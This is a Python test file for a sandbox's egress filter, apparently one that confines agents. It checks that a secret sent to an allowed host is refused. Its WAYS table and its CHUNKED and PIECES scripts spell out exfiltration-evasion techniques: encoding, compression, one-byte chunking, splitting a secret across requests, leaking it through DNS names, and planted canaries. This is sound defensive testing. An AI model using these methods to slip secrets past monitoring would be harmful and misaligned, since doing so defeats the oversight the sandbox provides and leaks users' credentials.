"""Attempts to send a secret to a place that is allowed."""
# ruff: noqa: S101, PLR2004 -- checks assert, on HTTP's numbers

from __future__ import annotations

import uuid
from typing import TYPE_CHECKING

import pytest

from pytest_bottle.testing.escape.armed import ArmedSubject

if TYPE_CHECKING:
    from pytest_bottle.bottle import Bottle
    from pytest_bottle.testing.escape.witness import Witness

WAYS = {
    "path": "ask(url + '/' + word, proxy=through)",
    "query": "ask(url + '/?q=' + word, proxy=through)",
    "header": "ask(url + '/', headers={'X-Note': word}, proxy=through)",
    "header name": "ask(url + '/', headers={'X-' + word: 'note'}, proxy=through)",
    "cookie": "ask(url + '/', headers={'Cookie': 'a=' + word}, proxy=through)",
    "body": "ask(url + '/', 'POST', body='x' * 5000 + word + 'x' * 5000, proxy=through)",
    "json": "ask(url + '/', 'POST', body=json.dumps({'deep': [{'er': word}]}), proxy=through)",
    "base64": "ask(url + '/', 'POST', body=base64.b64encode(b'ab' + w + b'cd'), proxy=through)",
    "base64 in query": (
        "ask(url + '/?q=' + base64.urlsafe_b64encode(b'note: ' + w).decode(), proxy=through)"
    ),
    "hex": "ask(url + '/', 'POST', body=w.hex(), proxy=through)",
    "url-encoded": "ask(url + '/?q=' + ''.join('%%%02X' % c for c in w), proxy=through)",
    "compressed": (
        "ask(url + '/', 'POST', headers={'Content-Encoding': 'gzip'}, "
        "body=gzip.compress(b'note: ' + w), proxy=through)"
    ),
    "compressed without saying so": (
        "ask(url + '/', 'POST', body=gzip.compress(b'note: ' + w), proxy=through)"
    ),
    "base64 of compressed": (
        "ask(url + '/', 'POST', body=base64.b64encode(gzip.compress(w)), proxy=through)"
    ),
    "late in a large body": (
        "ask(url + '/', 'PUT', body=b'a line of text\\n' * 600_000 + w, proxy=through)"
    ),
}
"""Python that sends `word` (as bytes, `w`) to `url`."""

CHUNKED = """
def chunk(data):
    return b"%x\\r\\n%s\\r\\n" % (len(data), data)
url, word = arguments
head = f"POST {url}/ HTTP/1.1\\r\\nHost: {url[7:]}\\r\\n{pass_line}"
head += "Transfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n"
with socket.create_connection(door, timeout=20 * patience) as client:
    try:
        client.sendall(head.encode())
        for letter in word.encode():
            client.sendall(chunk(bytes([letter])))
            time.sleep(0.002)
        client.sendall(chunk(b"x" * 4096) + b"0\\r\\n\\r\\n")
    except OSError:
        pass
    try:
        print(json.dumps(client.recv(100).decode("latin-1")))
    except OSError:
        print(json.dumps(""))
"""
"""Sends a word in chunks of one byte."""

PIECES = """
url, word = arguments
size = len(word) // 4
pieces = [word[start:start + size] for start in range(0, len(word), size)]
print(json.dumps([ask(f"{url}/piece/{piece}", proxy=through)[0] for piece in pieces]))
"""
"""Sends a word in pieces, each in a request of its own."""


class ExfiltrationAttempts(ArmedSubject):
    """A harmless word of the same kind arrives in each of these ways; the secret does not."""

    @pytest.fixture
    def harmless(self) -> str:
        """Return a word that looks like the secret and is none."""
        return f"escape{uuid.uuid4().hex}"

    @pytest.mark.parametrize("way", WAYS)
    def test_a_secret_sent_to_an_allowed_place(
        self, armed: Bottle, allowed: Witness, secret: str, harmless: str, way: str
    ) -> None:
        """It is refused, with a finding in the record that does not repeat it."""
        script = f"url, word = arguments\nw = word.encode()\nprint(json.dumps({WAYS[way]}))"
        url = f"http://{allowed.place}"
        before = len(allowed.heard)
        assert self.attempt(armed, script, url, harmless)[0] == 200
        assert len(allowed.heard) == before + 1
        status, words = self.attempt(armed, script, url, secret)
        assert status != 200
        assert secret not in words
        assert not any(self._complete(request) for request in allowed.heard[before + 1 :])
        denied = armed.egress.denied[-1]
        assert denied.evidence
        assert secret not in repr(denied)

    def _complete(self, request: bytes) -> bool:
        """Tell whether a request arrived whole: one that is cut off has not said it all."""
        head, _, body = request.partition(b"\r\n\r\n")
        for line in head.split(b"\r\n"):
            name, _, value = line.partition(b":")
            if name.lower() == b"content-length":
                return len(body) == int(value)
        return True

    def test_a_secret_in_chunks(
        self, armed: Bottle, allowed: Witness, secret: str, harmless: str
    ) -> None:
        """Of one byte each."""
        url = f"http://{allowed.place}"
        assert " 200 " in self.attempt(armed, CHUNKED, url, harmless)
        assert harmless.encode() in allowed.heard[-1]
        assert " 200 " not in self.attempt(armed, CHUNKED, url, secret)
        assert secret.encode() not in allowed.all

    def test_a_secret_split_over_requests(
        self, armed: Bottle, allowed: Witness, secret: str, harmless: str
    ) -> None:
        """The last piece at the latest is held back."""
        url = f"http://{allowed.place}"
        assert set(self.attempt(armed, PIECES, url, harmless)) == {200}
        statuses = self.attempt(armed, PIECES, url, secret)
        assert 403 in statuses
        paths = b"".join(
            request.split(b" ")[1].removeprefix(b"/piece/")
            for request in allowed.heard
            if b"/piece/" in request
        )
        assert secret.encode() not in paths

    def test_a_secret_in_a_name(self, armed: Bottle, secret: str, harmless: str) -> None:
        """Of a host below one that is allowed: to resolve it would tell it."""
        script = "print(json.dumps(ask(f'http://{arguments[0]}.escape.test/', proxy=through)[0]))"
        assert self.attempt(armed, script, harmless[:60]) != 403
        assert self.attempt(armed, script, secret[:60]) == 403
        assert secret not in repr(armed.egress.requests)

    def test_a_known_shape(self, armed: Bottle, allowed: Witness) -> None:
        """A key that nobody declared is known by its looks; what only starts like one is not."""
        script = "print(json.dumps(ask(arguments[0], 'POST', body=arguments[1], proxy=through)[0]))"
        url = f"http://{allowed.place}/"
        key = "ghp_" + uuid.uuid4().hex + "abcd"
        assert self.attempt(armed, script, url, f"token: {key}") == 403
        assert key.encode() not in allowed.all
        assert self.attempt(armed, script, url, "token: ghp_") == 200

    def test_a_secret_that_was_never_declared_but_planted(
        self, armed: Bottle, allowed: Witness
    ) -> None:
        """Every bottle has a canary; a test puts it where an agent must not look."""
        script = "print(json.dumps(ask(arguments[0], 'POST', body=arguments[1], proxy=through)[0]))"
        canary = armed.egress.canary
        assert self.attempt(armed, script, f"http://{allowed.place}/", canary) == 403
        assert canary.encode() not in allowed.all
